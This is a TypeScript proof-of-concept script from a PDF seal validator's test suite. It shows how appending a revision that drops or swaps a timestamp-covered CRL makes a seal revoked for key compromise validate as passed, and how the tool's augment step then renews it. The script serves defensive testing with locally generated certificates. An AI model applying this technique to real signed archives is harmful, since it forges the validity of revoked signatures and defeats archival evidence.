// P1b: a later revision drops a "revoked" that an archive timestamp covers, and the verdict flips. P1 showed
// "protected until" growing when a later LTV-only revision emptied the DSS; the verdict itself flips too: only
// the latest revision's DSS is read (pades.ts dssData(doc.latest())), and any change of the DSS is "LTV", so
// validation data that a document timestamp already proves existed can be withdrawn by anyone who appends a
// revision. Scenario (L3's): the seal key is stolen; the CA revokes the seal at 08:06 (keyCompromise); at 08:36
// the thief seals with the CA's last "good" answer of 07:36 in the CMS. An archivist (with a tool other than
// sealcheck augment, which refuses a revoked seal: EU DSS's extension, pyHanko's ltaupdate) adds the CA's CRL of
// two days later, which lists the seal as revoked at 08:06, and an archive timestamp over it. The thief then
// appends one revision whose DSS is the same minus that CRL.
//   npx tsx scripts/attack36b/covered-revocation-dropped.ts [honest|swap|augment|augment-honest]
// honest: the archive as the archivist left it (the CRL covered by ArchiveTimestamp): TOTAL-FAILED / REVOKED.
// default: one more LTV-only revision without the CRL: TOTAL-PASSED.
// swap (a probe for P1's second rule): the later revision leaves the DSS as it is and redefines the covered CRL's
// stream object (same number) with the CA's CRL of the sealing day, which does not list the seal. A fix that
// reads every revision's DSS must resolve each revision's references in that revision (as pyHanko's historical
// resolver does), or it reads the swapped bytes for the covered item. main: TOTAL-PASSED.
// augment: the attacked file given to `sealcheck augment` (loopback TSA, the TSA CA's current answer as --ocsp):
// renewed, a new archive timestamp over a seal revoked before it was made. augment-honest: the archivist's file:
// refused.
import { augmentArchive } from "../../src/api/internal.js";
import { errorMessage } from "../../src/errors.js";
import { NumberAllocator, appendUpdate } from "../../src/augment/writer.js";
import { parsePdf, readDss } from "../../src/input/pdf/index.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { addDocumentTimestamp } from "../generator/attacks.js";
import { startTsa } from "../generator/servers.js";
import { buildArchive } from "../generator/archive.js";
import { createOcspResponse } from "../generator/ocsp.js";
import { serialBytes } from "../generator/pki.js";
import { TIMELINE } from "../generator/timeline.js";
import { dss, dssItems, pki, save, scopedCrl, show, verify, withDss, work } from "../attack36/lib.js";

const mode = process.argv[2] ?? "attack";
const honest = mode === "honest" || mode === "augment-honest";
const P = pki();
const dir = work("p1b");
const sealing = TIMELINE.timestampAt; // 2025-12-08T08:36:38Z
const revokedAt = new Date(sealing.getTime() - 30 * 60_000);
const lastGood = new Date(sealing.getTime() - 60 * 60_000);
const later = new Date(sealing.getTime() + 2 * 86_400_000);
const archivedAt = new Date(later.getTime() + 3600_000);
const goodOcsp = createOcspResponse({
  subject: P.seal,
  issuer: P.sealRoot,
  responder: P.sealRoot,
  producedAt: lastGood,
  nextUpdate: new Date(lastGood.getTime() + 3 * 86_400_000),
});
const sealed = (await buildArchive(P, { seal: { revocation: { crls: [], ocsps: [goodOcsp] } } })).pdf;
const crl = scopedCrl({
  issuer: P.sealRoot,
  thisUpdate: later,
  nextUpdate: new Date(later.getTime() + 7 * 86_400_000),
  number: 7,
  revoked: [{ serial: serialBytes(P.seal), at: revokedAt }],
});
// The TSA's answer of the archiving day, for the archive timestamp's own proof.
const tsaOcsp = createOcspResponse({ subject: P.tsa, issuer: P.tsaRoot, responder: P.tsaRoot, producedAt: new Date(archivedAt.getTime() + 600_000) });
const archived = await addDocumentTimestamp(withDss(sealed, { crls: [crl], certs: [P.sealRoot.der, P.tsa.der, P.tsaRoot.der] }), P, archivedAt);
let out = withDss(archived, { ocsps: [tsaOcsp] });
if (mode === "swap") {
  const doc = parsePdf(wholeSource(out), resolveLimits());
  const ref = readDss(doc.latest())?.crls[0];
  if (!ref) throw new Error("no CRL in the DSS");
  const sealingDay = scopedCrl({ issuer: P.sealRoot, thisUpdate: new Date(sealing.getTime() - 3 * 3600_000), nextUpdate: later, number: 6 });
  out = appendUpdate(doc, [{ num: ref.num, gen: ref.gen, stream: sealingDay }], new NumberAllocator(doc)).bytes;
} else if (!honest) {
  const held = dssItems(out);
  out = withDss(
    out,
    { certs: held.certs, ocsps: held.ocsps, crls: held.crls.filter((c) => Buffer.compare(Buffer.from(c), Buffer.from(crl)) !== 0) },
    { dropOld: true },
  );
}
const file = save(dir, "archive.pdf", out);
console.log(
  `wrote ${file}: seal revoked ${revokedAt.toISOString()} (keyCompromise), sealed ${sealing.toISOString()}; the CA's CRL of ${later.toISOString()} saying so in a DSS covered by an archive timestamp of ${archivedAt.toISOString()}${honest ? "" : mode === "swap" ? "; a later revision rewrites that CRL's stream with the CRL of the sealing day" : "; a later revision's DSS without it"}`,
);
show(
  honest ? "honest: as archived" : mode === "swap" ? "swap: a later revision rewrites the covered CRL" : "attack: a later revision drops the covered CRL",
  verify(file),
);
if (mode.startsWith("augment")) {
  const tsa = await startTsa(P.tsa);
  try {
    const now = createOcspResponse({ subject: P.tsa, issuer: P.tsaRoot, responder: P.tsaRoot, producedAt: new Date(Date.now() - 3600_000) });
    const r = await augmentArchive({ evidence: file, tsa: tsa.url, trust: ["samples/trust"], ocsp: [now] });
    console.log(
      `== augment: ${r.before.indication} ${r.before.padesLevel} -> ${r.after.indication} ${r.after.padesLevel}; new ${r.timestamp.field} at ${r.timestamp.genTime}`,
    );
    show("renewed", verify(save(dir, "renewed.pdf", r.bytes)));
  } catch (e) {
    console.log(`== augment refused: ${errorMessage(e)}`);
  } finally {
    await tsa.close();
  }
} else dss(file);
